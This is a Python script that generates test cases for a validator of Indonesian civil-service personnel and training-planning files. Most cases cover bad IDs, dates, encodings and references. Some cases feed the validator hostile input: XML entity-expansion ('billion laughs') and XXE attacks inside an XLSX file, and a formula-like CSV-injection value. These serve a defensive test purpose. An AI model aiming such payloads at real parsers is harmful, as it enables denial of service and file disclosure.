    add("roi_biaya", "missing_file", {}, "missing_file", "error", None, None, remove="roi_biaya.csv")
    # pegawai with raw NIPs: an invalid NIP is located and masked
    head, rows = base["pegawai"]
    h2 = ["nip", "nama"] + head[1:]
    r2 = [[f"19{70 + i}{1 + i % 9:02d}{10 + i:02d}20{10 + i % 10}{1 + i % 9:02d}{1 + i % 2}{i + 1:03d}", f"Nama Uji {i}"]
          + r[1:] for i, r in enumerate(rows)]
    r2[3][0] = "1985022220121"
    add("pegawai", "invalid_value", {"pegawai.csv": to_csv(h2, r2).encode("utf-8")}, "invalid_nip", "error", 5, "nip",
        note="NIP of 13 digits")
    # issue #17 planning inputs: checks across tables and the new optional columns
    head, rows = base["riwayat_pelatihan"]
    r2 = [list(r) for r in rows]
    r2[2][head.index("tanggal_selesai")] = "2028-02-14"
    add("riwayat_pelatihan", "invalid_value", {"riwayat_pelatihan.csv": to_csv(head, r2).encode("utf-8")},
        "inconsistent_value", "warning", 4, "tanggal_selesai", note="completed after the plan year, status lulus")
    head, rows = base["formasi_tahun_rencana"]
    r2 = [list(r) for r in rows]
    r2[1][head.index("tmt_perkiraan")] = "2026-12-01"
    add("formasi_tahun_rencana", "out_of_range", {"formasi_tahun_rencana.csv": to_csv(head, r2).encode("utf-8")},
        "out_of_range", "warning", 3, "tmt_perkiraan", note="intake before the plan year")
    # riwayat exported from SIASN with NIPs (pegawai too): a NIP that lost its last digits in Excel
    head, rows = base["pegawai"]
    nips = [f"19{70 + i}{1 + i % 9:02d}{10 + i:02d}20{10 + i % 10}{1 + i % 9:02d}{1 + i % 2}{i + 1:03d}"
            for i in range(len(rows))]
    peg_nip = to_csv(["nip", "nama"] + head[1:], [[n, f"Nama Uji {i}"] + r[1:] for i, (n, r) in
                                                  enumerate(zip(nips, rows, strict=True))]).encode("utf-8")
    head, rows = base["riwayat_pelatihan"]
    r2 = [[nips[int(r[0][1:]) - 1]] + r[1:] for r in rows]
    r2[3][0] = "1.97506152015062E+17"
    add("riwayat_pelatihan", "invalid_value", {"riwayat_pelatihan.csv": to_csv(["nip"] + head[1:], r2).encode(),
                                               "pegawai.csv": peg_nip},
        "invalid_nip", "error", 5, "nip", note="keyed by NIP; NIP in scientific notation")
    # a NIP whose birth date is implausible for the plan year: warning, tanggal_lahir/tmt_cpns left blank
    head, rows = base["pegawai"]
    r2 = [[r[0], n, f"Nama Uji {i}"] + r[1:] for i, (n, r) in enumerate(zip(nips, rows, strict=True))]
    r2[2][1] = "195003121975031001"
    add("pegawai", "invalid_value", {"pegawai.csv": to_csv([head[0], "nip", "nama"] + head[1:], r2).encode("utf-8")},
        "nip_date_implausible", "warning", 4, "tanggal_lahir,tmt_cpns", note="born 1950: age 77 in the plan year")
    r2 = [r + ["aktif" if i != 5 else "cuti panjang"] for i, r in enumerate(rows)]
    add("pegawai", "invalid_value", {"pegawai.csv": to_csv(head + ["status_aktif"], r2).encode("utf-8")},
        "not_allowed", "error", 7, "status_aktif", note="'cuti panjang'")
    head, rows = base["katalog_program"]
    extra = [["latsar", ""], ["", "latsar;PRG-007"], ["", ""]]
    add("katalog_program", "unmatched_id",
        {"katalog_program.csv": to_csv(head + ["wajib", "prasyarat"],
                                       [r + e for r, e in zip(rows, extra, strict=True)]).encode("utf-8")},
        "unknown_reference", "error", 3, "prasyarat", note="prerequisite 'PRG-007' not in the catalogue")
    extra[0][0] = "diklatpim_iv"
    add("katalog_program", "invalid_value",
        {"katalog_program.csv": to_csv(head + ["wajib", "prasyarat"],
                                       [r + e for r, e in zip(rows, extra, strict=True)]).encode("utf-8")},
        "not_allowed", "error", 2, "wajib", note="'diklatpim_iv' is not a wajib code")
    add("katalog_program", "unmatched_id",
        {"katalog_program.csv": to_csv(head + ["sasaran_unit"], [r + [u] for r, u in zip(
            rows, ["", "RSUD_X", ""], strict=True)]).encode("utf-8")},
        "unknown_reference", "error", 3, "sasaran_unit", note="sasaran_unit 'RSUD_X' is not a unit in pegawai")
    head, rows = base["anggaran"]
    add("anggaran", "unmatched_id",
        {"anggaran.csv": to_csv(head + ["dpa", "sub_kegiatan"], [rows[0] + ["BKPSDM", "Pengembangan Kompetensi ASN"],
                                                                  rows[1] + ["RSUD", "Pelayanan BLUD"]]).encode()},
        "unknown_reference", "error", 3, "dpa", note="DPA of a unit that has no staff in pegawai")
    # XML attacks inside an XLSX
    add("kamus_kompetensi", "xml_attack", {"kamus_kompetensi.xlsx": _xml_attack("billion_laughs")},
        "unreadable_file", "error", None, None, remove="kamus_kompetensi.csv", note="entity expansion (billion laughs)")
    add("kamus_kompetensi", "xml_attack", {"kamus_kompetensi.xlsx": _xml_attack("xxe")},
        "unreadable_file", "error", None, None, remove="kamus_kompetensi.csv", note="external entity (XXE)")
    # instansi.yaml
    add("instansi", "missing_file", {}, "missing_file", "error", None, None, remove="instansi.yaml",
        fname="instansi.yaml")
    add("instansi", "invalid_value", {"instansi.yaml": INSTANSI.replace("2027", "tahun depan").encode()},
        "out_of_range", "error", None, "tahun_rencana", note="year as text")
    add("instansi", "invalid_value", {"instansi.yaml": b"nama_instansi: [Kabupaten\ntahun_rencana: 2027\n"},
        "unreadable_file", "error", 2, None, note="broken YAML")
    add("instansi", "empty_file", {"instansi.yaml": b""}, "required_blank", "error", None, "tahun_rencana")
    add("instansi", "wrong_encoding", {"instansi.yaml": INSTANSI.replace("Rusak", "Café").encode("cp1252")},
        "unreadable_file", "error", None, None, note="cp1252 YAML")
    add("instansi", "csv_injection", {"instansi.yaml": INSTANSI.replace("Kabupaten Uji Rusak", "'=1+1'").encode()},
        "", "none", None, None, exit=0, note="formula-like agency name: read as text, escaped on export (no problem)")
    return cases


COLUMNS = ["case_id", "table", "failure_class", "file", "expected_code", "severity", "row", "column", "exit", "remove",
           "generated", "note"]


def main() -> None:
    base = base_tables()
    bdir = HERE / "_base"
    if bdir.exists():
        shutil.rmtree(bdir)
    bdir.mkdir()
    (bdir / "instansi.yaml").write_text(INSTANSI, encoding="utf-8")
    for name, (h, r) in base.items():
        (bdir / f"{name}.csv").write_text(to_csv(h, r), encoding="utf-8", newline="")
    for d in HERE.iterdir():
        if d.is_dir() and d.name != "_base":
            shutil.rmtree(d)
    cases = build_cases()
    for c in cases:
        d = HERE / c["case_id"]
        d.mkdir()
        for fname, data in c["files"].items():
            (d / fname).write_bytes(data)
        if not c["files"]:
            (d / "README.txt").write_text(
                f"{c['failure_class']}: {c['note'] or c['expected_code']} "
                f"({'file built at test time' if c['generated'] else 'file removed from the base'})\n",
                encoding="utf-8")
    with open(HERE / "cases.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=COLUMNS, extrasaction="ignore", lineterminator="\n")
        w.writeheader()
        w.writerows(cases)
    print(f"{len(cases)} cases written to {HERE}")


if __name__ == "__main__":
    main()
